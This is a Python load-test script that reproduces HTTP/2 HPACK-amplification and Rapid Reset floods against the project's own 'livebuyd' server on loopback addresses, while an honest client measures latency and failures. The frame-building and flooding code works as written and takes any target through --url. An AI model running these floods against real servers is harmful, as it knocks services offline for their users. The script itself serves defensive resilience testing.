#!/usr/bin/python3
"""The HTTP/2 floods of issue #18 and what honest clients see during them, against livebuyd straight or through the edge
(scripts/edge.sh): docs/edge.md has the figures and the commands.

  hpack   HPACK amplification: one HEADERS block adds a 4 KB entry to the server's header table, then each request
          refers to it --refs times (one byte a reference, --refs bytes of CONTINUATION frames), unauthenticated.
  reset   Rapid Reset: HEADERS + DATA + RST_STREAM of POST /v1/orders with a valid buyer token, as fast as the socket
          takes them.
  none    no flood: the honest figures alone.

Usage: loadtest/floods.py ATTACK --url URL [--source 127.0.0.3] [--procs 2] [--connections 1] [--duration 20]
         [--metrics-url http://LIVEBUYD/metrics] [--pids PID,...] [--admin-token T --buyer-secret S] [--refs 400000]
         [--flood-nice 19]
While the flood runs (in --procs processes of --connections connections each, from --source; a connection the server
closes is opened again), an honest client from --honest-source (127.0.0.2) sends GET /healthz and POST /v1/orders, each
every --interval seconds on a keep-alive HTTP/1.1 connection of its own (HTTPS for an https URL), and prints their
latency (p50, p99, max), their failures, the flood's own counts, the CPU the --pids used, and livebuyd's counters.
Needs Debian's python3-h2 (hpack). Loopback addresses other than 127.0.0.1 need no set-up on Linux."""

import argparse
import hashlib
import hmac
import http.client
import json
import multiprocessing
import os
import socket
import ssl
import struct
import threading
import time
import urllib.parse
import uuid

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SHIP_TO = {"name": "攻击测试", "phone": "13800000000", "address": "山西省长治市武乡县"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def buyer_token(user_id, secret):
    payload = "b1.%d.%d" % (user_id, int(time.time()) + 86400)
    return payload + "." + hmac.new(secret.encode(), payload.encode(), hashlib.sha256).hexdigest()


def hpack_string(text):
    raw = text.encode()
    assert len(raw) < 127
    return bytes([len(raw)]) + raw


def connect(url, source, alpn):
    """A TCP connection from source to url's host (TLS with ALPN alpn for https)."""
    u = urllib.parse.urlsplit(url)
    sock = socket.create_connection((u.hostname, u.port or (443 if u.scheme == "https" else 80)), timeout=10,
                                    source_address=(source, 0))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if u.scheme == "https":
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols([alpn])
        sock = ctx.wrap_socket(sock, server_hostname=u.hostname)
    return sock


class FloodConnection:
    """One HTTP/2 connection of the flood: frames written as told; a reader thread answers SETTINGS, tracks the
    connection's send window and counts the answers' statuses and the GOAWAY."""

    def __init__(self, url, source, counts):
        self.sock = connect(url, source, "h2")
        self.scheme = urllib.parse.urlsplit(url).scheme
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.counts = counts
        self.window = 65535
        self.cond = threading.Condition()
        self.closed = False
        self.pending_acks = 0
        self.next_stream = 1
        # No pushes; a large window for what the server sends, so that its answers never wait for us.
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 2, 0) + struct.pack(">HI", 4, 1 << 24))
                          + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
        threading.Thread(target=self.read, daemon=True).start()

    def stream_id(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def read(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload, buf = buf[9:9 + length], buf[9 + length:]
                    self.on_frame(kind, flags, stream, payload)
        except (OSError, ValueError):
            pass
        with self.cond:
            self.closed = True
            self.cond.notify_all()

    def on_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            with self.cond:
                self.pending_acks += 1
        elif kind == WINDOW_UPDATE and stream == 0:
            with self.cond:
                self.window += int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                self.cond.notify_all()
        elif kind == HEADERS:
            # A header block starts an answer: keep the decoder's table in step and count the status.
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1:len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            try:
                status = dict(self.decoder.decode(block)).get(":status", "?")
            except Exception:
                status = "undecoded"
            self.counts["status " + str(status)] = self.counts.get("status " + str(status), 0) + 1
        elif kind == RST_STREAM:
            self.counts["RST_STREAM from the server"] = self.counts.get("RST_STREAM from the server", 0) + 1
        elif kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.counts["GOAWAY %d" % code] = self.counts.get("GOAWAY %d" % code, 0) + 1

    def send(self, data, data_bytes=0):
        """Sends frames, first waiting for data_bytes of connection window (their DATA); False once closed."""
        with self.cond:
            while self.window < data_bytes and not self.closed:
                self.cond.wait(1)
            if self.closed:
                return False
            self.window -= data_bytes
            acks, self.pending_acks = self.pending_acks, 0
        try:
            self.sock.sendall(frame(SETTINGS, ACK, 0) * acks + data)
        except OSError:
            self.closed = True
        return not self.closed

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def hpack_requests(conn, refs, authority):
    """Yields (frames, 0): the first request adds the 4 KB entry, each one after refers to it refs times."""
    head = [(":method", "GET"), (":scheme", conn.scheme), (":path", "/healthz"), (":authority", authority)]
    # The entry and the request's own entries must fit in the 4096 bytes of the table together (each costs 32 bytes
    # more than its name and value), else the next request's would evict it.
    size = 4096 - 32 - len("x-amplify") - sum(32 + len(k) + len(v) for k, v in head if k in (":path", ":authority"))
    first = conn.encoder.encode(head + [("x-amplify", "A" * size)])
    yield frame(HEADERS, END_STREAM | END_HEADERS, conn.stream_id(), first), 0
    # The newest entry of the dynamic table is index 62: 0xbe as an indexed header field.
    prefix = conn.encoder.encode(head)
    assert conn.encoder.header_table.dynamic_entries[0][0] == b"x-amplify", "the entry was evicted"
    block = prefix + b"\xbe" * refs
    while True:
        sid = conn.stream_id()
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = [frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), sid, chunks[0])]
        for i, chunk in enumerate(chunks[1:], 1):
            out.append(frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, sid, chunk))
        yield b"".join(out), 0


def reset_requests(conn, tokens, sku_id, authority, batch, delay):
    """Yields batches of HEADERS + DATA + RST_STREAM (CANCEL) of POST /v1/orders, each with its own key; with a delay,
    the batch's resets go that many seconds after its requests (as buyers who give up on a slow answer)."""
    body = json.dumps({"sku_id": sku_id, "qty": 1, "ship_to": SHIP_TO}).encode()
    head = [(":method", "POST"), (":scheme", conn.scheme), (":path", "/v1/orders"), (":authority", authority),
            ("content-type", "application/json"), ("content-length", str(len(body)))]
    first = conn.encoder.encode(head)  # adds the entries; encoded again, the same head is all indexes
    again = conn.encoder.encode(head)
    n = 0
    while True:
        out, resets = [], []
        for _ in range(batch):
            token = tokens[n % len(tokens)]
            # The token and the key as literals without indexing: the table stays as the first request left it.
            block = (first if n == 0 else again) + b"\x00" + hpack_string("authorization") + \
                hpack_string("Bearer " + token) + b"\x00" + hpack_string("idempotency-key") + hpack_string(uuid.uuid4().hex)
            n += 1
            sid = conn.stream_id()
            out.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, body))
            resets.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
        if delay:
            yield b"".join(out), len(body) * batch
            time.sleep(delay)
            yield b"".join(resets), 0
        else:
            yield b"".join(o + r for o, r in zip(out, resets)), len(body) * batch


def flood_process(args, index, setup, stop_at, results):
    if args.flood_nice:
        os.nice(args.flood_nice)
    counts = {"connections": 0, "requests": 0, "bytes": 0}
    authority = urllib.parse.urlsplit(args.url).netloc
    tokens = [buyer_token(900000 + i, args.buyer_secret) for i in range(50)] if args.attack == "reset" else []

    def one_connection(n):
        # With --sources N, the connections take N addresses in turn from --source up.
        a, b, c, d = map(int, args.source.split("."))
        k = d - 1 + (index * args.connections + n) % args.sources
        source = "%d.%d.%d.%d" % (a, b, c + k // 250, 1 + k % 250)
        while time.monotonic() < stop_at:
            try:
                conn = FloodConnection(args.url, source, counts)
            except OSError as e:
                counts["connect failed: " + type(e).__name__] = counts.get("connect failed: " + type(e).__name__, 0) + 1
                time.sleep(0.05)
                continue
            counts["connections"] += 1
            if args.attack == "hpack":
                gen = hpack_requests(conn, args.refs, authority)
            else:
                gen = reset_requests(conn, tokens, setup["sku_id"], authority, args.batch, args.reset_delay)
            for data, data_bytes in gen:
                if time.monotonic() >= stop_at or not conn.send(data, data_bytes):
                    break
                counts["requests"] += args.batch if args.attack == "reset" and data_bytes else 1 if args.attack == "hpack" else 0
                counts["bytes"] += len(data)
            conn.close()

    threads = [threading.Thread(target=one_connection, args=(n,), daemon=True) for n in range(args.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    results.put(counts)


class Prober:
    """An honest client: one request kind every interval on a keep-alive HTTP/1.1 connection of its own."""

    def __init__(self, args, kind, setup):
        self.args, self.kind, self.setup = args, kind, setup
        self.latencies, self.failures = [], {}
        self.conn = None
        self.n = 0

    def connection(self):
        u = urllib.parse.urlsplit(self.args.url)
        if u.scheme == "https":
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            return http.client.HTTPSConnection(u.hostname, u.port, timeout=10, context=ctx,
                                               source_address=(self.args.honest_source, 0))
        return http.client.HTTPConnection(u.hostname, u.port, timeout=10, source_address=(self.args.honest_source, 0))

    def once(self):
        if self.kind == "healthz":
            method, path, body, headers, want = "GET", "/healthz", None, {}, 200
        else:
            self.n += 1
            token = buyer_token(800000 + self.n % 1000, self.args.buyer_secret)
            method, path, want = "POST", "/v1/orders", 201
            body = json.dumps({"sku_id": self.setup["sku_id"], "qty": 1, "ship_to": SHIP_TO})
            headers = {"Authorization": "Bearer " + token, "Idempotency-Key": uuid.uuid4().hex,
                       "Content-Type": "application/json"}
        started = time.monotonic()
        try:
            if self.conn is None:
                self.conn = self.connection()
            self.conn.request(method, path, body=body, headers=headers)
            resp = self.conn.getresponse()
            resp.read()
            status = resp.status
            if resp.will_close:
                self.conn.close()
                self.conn = None
        except (OSError, http.client.HTTPException) as e:
            status = type(e).__name__
            if self.conn is not None:
                self.conn.close()
            self.conn = None
        elapsed = time.monotonic() - started
        if status == want:
            self.latencies.append(elapsed)
        else:
            self.failures[str(status)] = self.failures.get(str(status), 0) + 1

    def run(self, until):
        next_at = time.monotonic()
        while time.monotonic() < until:
            self.once()
            next_at += self.args.interval
            time.sleep(max(0.0, next_at - time.monotonic()))

    def summary(self):
        lat = sorted(self.latencies)
        if not lat:
            return "%s: no answer, failures %s" % (self.kind, self.failures)

        def pct(p):
            return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000

        return "%s: %d answered, p50 %.1f ms, p99 %.1f ms, max %.1f ms, failures %s" % (
            self.kind, len(lat), pct(0.5), pct(0.99), lat[-1] * 1000, self.failures or "none")


def api(url, method, path, body, token):
    u = urllib.parse.urlsplit(url)
    if u.scheme == "https":
        conn = http.client.HTTPSConnection(u.hostname, u.port, timeout=10, context=ssl._create_unverified_context())
    else:
        conn = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    conn.request(method, path, body=json.dumps(body), headers={"Authorization": "Bearer " + token,
                                                               "Content-Type": "application/json"})
    resp = conn.getresponse()
    answer = json.loads(resp.read())
    conn.close()
    if resp.status != 201:
        raise SystemExit("%s %s answered %d %r" % (method, path, resp.status, answer))
    return answer


def make_sku(args):
    """A co-op and a SKU of a billion units for the honest orders and the reset flood."""
    coop = api(args.url, "POST", "/v1/merchants", {"name": "洪水测试合作社", "kind": "coop"}, args.admin_token)["token"]
    product = api(args.url, "POST", "/v1/products", {
        "title": "武乡小米", "unit": "袋", "skus": [{"name": "2.5kg", "price_cents": 3980, "stock": 1000000000,
                                                  "weight_grams": 2500}]}, coop)
    return {"sku_id": product["skus"][0]["id"]}


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def livebuyd_counters(url):
    if not url:
        return {}
    try:
        u = urllib.parse.urlsplit(url)
        conn = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
        conn.request("GET", u.path or "/metrics")
        text = conn.getresponse().read().decode()
        conn.close()
    except (OSError, http.client.HTTPException):
        return {}
    out = {}
    for line in text.splitlines():
        name = line.split(" ")[0]
        if name.startswith(("livebuy_http_requests_total", "livebuy_orders_dropped_total", "livebuy_batch_requests_total",
                            "livebuy_connections_closed_for_resets_total", "livebuy_http_connections_total")):
            out[name] = float(line.split()[-1])
    return out


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["hpack", "reset", "none"])
    p.add_argument("--url", required=True, help="https://EDGE or http://LIVEBUYD")
    p.add_argument("--source", default="127.0.0.3", help="the flood's address")
    p.add_argument("--sources", type=int, default=1, help="addresses the flood's connections spread over")
    p.add_argument("--batch", type=int, default=100, help="reset: streams written at once")
    p.add_argument("--reset-delay", type=float, default=0, help="reset: seconds between a batch and its resets")
    p.add_argument("--honest-source", default="127.0.0.2", help="the honest client's address")
    p.add_argument("--procs", type=int, default=2)
    p.add_argument("--flood-nice", type=int, default=0,
                   help="the flood processes' nice value: 19 leaves them the cores' leftovers, as attackers on other "
                        "machines take none of the server's")
    p.add_argument("--connections", type=int, default=1, help="connections per process")
    p.add_argument("--duration", type=float, default=20)
    p.add_argument("--warmup", type=float, default=2, help="seconds of flood before the honest client starts")
    p.add_argument("--interval", type=float, default=0.05)
    p.add_argument("--refs", type=int, default=400000, help="hpack: references to the 4 KB entry per request")
    p.add_argument("--admin-token", default="livebuy-demo-admin")
    p.add_argument("--buyer-secret", default="livebuy-demo-buyer-secret")
    p.add_argument("--metrics-url", help="livebuyd's own /metrics (http), for its counters")
    p.add_argument("--pids", default="", help="processes whose CPU to report (livebuyd, haproxy)")
    args = p.parse_args()

    setup = make_sku(args)
    pids = [int(x) for x in args.pids.split(",") if x]
    before = livebuyd_counters(args.metrics_url)
    cpu_before = {pid: cpu_seconds(pid) for pid in pids}
    start = time.monotonic()
    stop_at = start + args.warmup + args.duration
    results = multiprocessing.Queue()
    procs = []
    if args.attack != "none":
        procs = [multiprocessing.Process(target=flood_process, args=(args, i, setup, stop_at, results))
                 for i in range(args.procs)]
    for proc in procs:
        proc.start()
    time.sleep(args.warmup)
    probers = [Prober(args, "healthz", setup), Prober(args, "order", setup)]
    threads = [threading.Thread(target=pr.run, args=(stop_at,)) for pr in probers]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    flood = {}
    for _ in procs:
        for k, v in results.get(timeout=60).items():
            flood[k] = flood.get(k, 0) + v
    for proc in procs:
        proc.join()
    elapsed = time.monotonic() - start
    after = livebuyd_counters(args.metrics_url)

    print("%s flood on %s for %.0f s (%d processes x %d connections from %s%s):" % (
        args.attack, args.url, args.warmup + args.duration, len(procs), args.connections, args.source,
        " and %d addresses after it" % (args.sources - 1) if args.sources > 1 else ""))
    if flood:
        print("  flood: %d connections, %d requests sent, %.1f MB sent (%.2f MB/s); server said: %s" % (
            flood.pop("connections"), flood.pop("requests"), flood["bytes"] / 1e6, flood.pop("bytes") / 1e6 / elapsed,
            ", ".join("%s x%d" % kv for kv in sorted(flood.items())) or "nothing"))
    for pr in probers:
        print("  honest " + pr.summary())
    for pid in pids:
        print("  pid %d: %.1f s of CPU (%.0f%% of a core)" % (pid, cpu_seconds(pid) - cpu_before[pid],
                                                              100 * (cpu_seconds(pid) - cpu_before[pid]) / elapsed))
    deltas = {k: after[k] - before.get(k, 0) for k in after if after[k] - before.get(k, 0)}
    if deltas:
        print("  livebuyd counted: " + ", ".join("%s +%d" % (k, v) for k, v in sorted(deltas.items())))


if __name__ == "__main__":
    main()
